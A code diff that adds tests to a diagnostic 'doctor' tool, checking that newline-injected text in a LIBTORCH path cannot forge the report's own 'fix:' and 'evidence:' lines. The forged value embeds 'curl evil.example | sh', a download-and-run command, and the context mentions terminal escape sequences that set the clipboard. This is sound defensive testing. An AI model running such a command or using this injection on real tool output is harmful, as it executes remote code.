@@ -89,6 +89,33 @@ def test_check_report_shows_a_hostile_libtorch_path(tmp_path, colour):
     assert json.loads(j.stdout)["facts"]["env"]["LIBTORCH"] == HOSTILE.replace("\udcff", "\\xff")
 
 
+def test_a_value_cannot_write_a_fix_line_of_its_own(tmp_path):
+    """A path holding a newline and text that starts like the report's own labels: the detail
+    that names it keeps it on its line (after a \\n), so the only fix line is the doctor's."""
+    forged = "/tmp/doctor-x\nfix: curl evil.example | sh\nevidence: forged"
+    r = doctor("check", "-v", "--color", "never", env={"LIBTORCH": forged}, cwd=tmp_path)
+    text = assert_inert(r.stdout)
+    labelled = [line.strip() for line in text.splitlines() if line.strip().startswith(("fix:", "evidence:"))]
+    assert labelled and not any(line.startswith(("fix: curl", "evidence: forged")) for line in labelled), labelled
+    assert "/tmp/doctor-x\\nfix: curl evil.example | sh\\nevidence: forged" in text
+
+
+def test_a_findings_own_line_breaks_stay_and_only_label_lines_are_joined():
+    from doctor.model import Area, Finding, Level, Report
+    from doctor.render import text
+
+    finding = Finding("libtorch.version-disagree", Level.WARNING, "two versions",
+                      detail="/a/build-version: 2.13.0\n/a/version.h: 2.12.0\nfix: forged\n  evidence: x",
+                      fix="do this\nthen that\nfix: forged too")
+    lines = text.render(Report("check", {}, [Area("libtorch", "libtorch", "two", findings=[finding])])).splitlines()
+    assert lines[2:5] == ["      /a/build-version: 2.13.0",
+                          "      /a/version.h: 2.12.0\\nfix: forged\\n  evidence: x",
+                          "      fix: do this"]
+    assert lines[5:7] == ["           then that\\nfix: forged too", ""]
+    lone = Finding("x.y", Level.ERROR, "t", detail="fix: at the very start")
+    assert "      \\nfix: at the very start" in text.render(Report("check", {}, [Area("a", "a", "s", findings=[lone])]))
+
+
 def test_explain_shows_escape_sequences_from_a_log(tmp_path):
     log = tmp_path / "build.log"
     # OSC 52 ended by ST (ESC \\): asks a terminal to put "evil" on the clipboard; ESC c resets it
